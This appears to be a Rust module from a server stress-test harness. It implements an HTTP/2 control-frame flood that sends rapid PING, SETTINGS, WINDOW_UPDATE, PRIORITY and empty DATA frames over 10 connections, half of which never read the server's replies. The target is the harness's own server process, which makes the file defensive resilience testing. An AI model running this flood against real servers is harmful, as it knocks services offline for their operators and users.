//! HTTP/2 frames that ask for nothing and must be answered, or at least read.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use crate::failure::Failure;
use crate::frames::{DATA, END_HEADERS, Fields, HEADERS, PING, PRIORITY, Raw, frame, initial_window, window_update};
use crate::process::Who;
use crate::siege::{Attack, Ground, Outcome};

pub(crate) struct ControlFrames;

const KINDS: [&str; 5] = ["PING", "SETTINGS", "WINDOW_UPDATE", "PRIORITY", "empty DATA"];

impl Attack for ControlFrames {
    const NAME: &'static str = "control-frames";
    const TEXT: &'static str = "10 HTTP/2 connections that send PING, SETTINGS, WINDOW_UPDATE, PRIORITY or empty DATA frames as \
                                fast as they can; half of them never read the answers";

    async fn run(&self, ground: &Ground) -> Result<Outcome, Failure> {
        let sent: Arc<[AtomicU64; 5]> = Arc::default();
        let mut clients = tokio::task::JoinSet::new();
        for client in 0..10_usize {
            let (address, sent) = (ground.process.http, sent.clone());
            clients.spawn(async move {
                while let Ok(mut raw) = Raw::open(address, &initial_window(65_535)).await {
                    let one = match client % 5 {
                        0 => frame(PING, 0, 0, &[7; 8]),
                        1 => initial_window(60_000),
                        2 => window_update(0, 1),
                        3 => frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
                        _ => {
                            // A request whose body goes on and on without a byte.
                            let mut fields = Fields(vec![0x83, 0x86, 0x04]);
                            fields.0.extend(
                                Fields::get("/api/v1/namespaces/default/configmaps", Who::Attacker)
                                    .0
                                    .split_off(3),
                            );
                            raw.send(&frame(HEADERS, END_HEADERS, 1, &fields.0)).await;
                            frame(DATA, 0, 1, &[])
                        }
                    };
                    let many = one.repeat(200);
                    let (mut read, mut write) = raw.socket.into_split();
                    let reads = client < 5;
                    let drain = tokio::spawn(async move {
                        if reads {
                            let _ = tokio::io::copy(&mut read, &mut tokio::io::sink()).await;
                        } else {
                            // Held open, not read.
                            std::future::pending::<()>().await;
                            drop(read);
                        }
                    });
                    while tokio::io::AsyncWriteExt::write_all(&mut write, &many).await.is_ok() {
                        sent[client % 5].fetch_add(200, Ordering::Relaxed);
                    }
                    drain.abort();
                }
            });
        }
        ground.hold(20).await;
        clients.abort_all();
        let sent: Vec<String> = KINDS
            .iter()
            .zip(sent.iter())
            .map(|(kind, sent)| format!("{} {kind}", sent.load(Ordering::Relaxed)))
            .collect();
        Ok(Outcome::new(10, "connections", 32 << 20).note(format!("frames sent: {}", sent.join(", "))))
    }
}
